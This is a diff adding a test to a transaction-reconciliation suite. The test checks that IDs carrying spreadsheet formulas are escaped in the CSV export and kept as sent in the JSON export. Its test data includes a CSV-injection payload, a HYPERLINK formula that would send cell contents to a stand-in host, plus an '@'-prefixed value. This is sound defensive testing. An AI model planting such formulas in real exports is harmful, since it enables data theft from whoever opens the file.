@@ -4,7 +4,9 @@ certification runs, each on SQLite and PostgreSQL."""
 
 from __future__ import annotations
 
+import csv
 import datetime
+import io
 import threading
 import uuid
 from typing import Any
@@ -306,6 +308,20 @@ def test_the_reconciliation_lists_every_call_as_json_and_csv(
     text = client.get(path, headers={**OPERATOR, "Accept": "text/csv"}).text
     assert text.splitlines()[0] == "transaction_id,kind,round_id,player_id,amount,at,status"
     assert text.splitlines()[1].startswith("b1,bet,r1,alice,10.00,")
+
+
+def test_an_id_a_spreadsheet_would_run_is_text_in_the_csv_and_as_sent_in_json(
+    provider: ProviderClient, token: str, client: TestClient
+) -> None:
+    formula = '=HYPERLINK("http://x/?"&A1,"ok")'
+    assert provider.bet(token, formula, "@r1", "1.00").status_code == 200
+    today = datetime.datetime.now(datetime.UTC).date().isoformat()
+    path = f"/v1/providers/acme/transactions?from={today}&to={today}"
+    listed = client.get(path, headers=AUDITOR).json()["transactions"]
+    assert [(t["transaction_id"], t["round_id"]) for t in listed] == [(formula, "@r1")]
+    text = client.get(path, headers={**AUDITOR, "Accept": "text/csv"}).text
+    row = next(csv.reader(io.StringIO(text.splitlines()[1])))
+    assert row[:3] == ["'" + formula, "bet", "'@r1"]
 
 
 def test_a_provider_is_registered_once_and_its_secrets_never_shown(
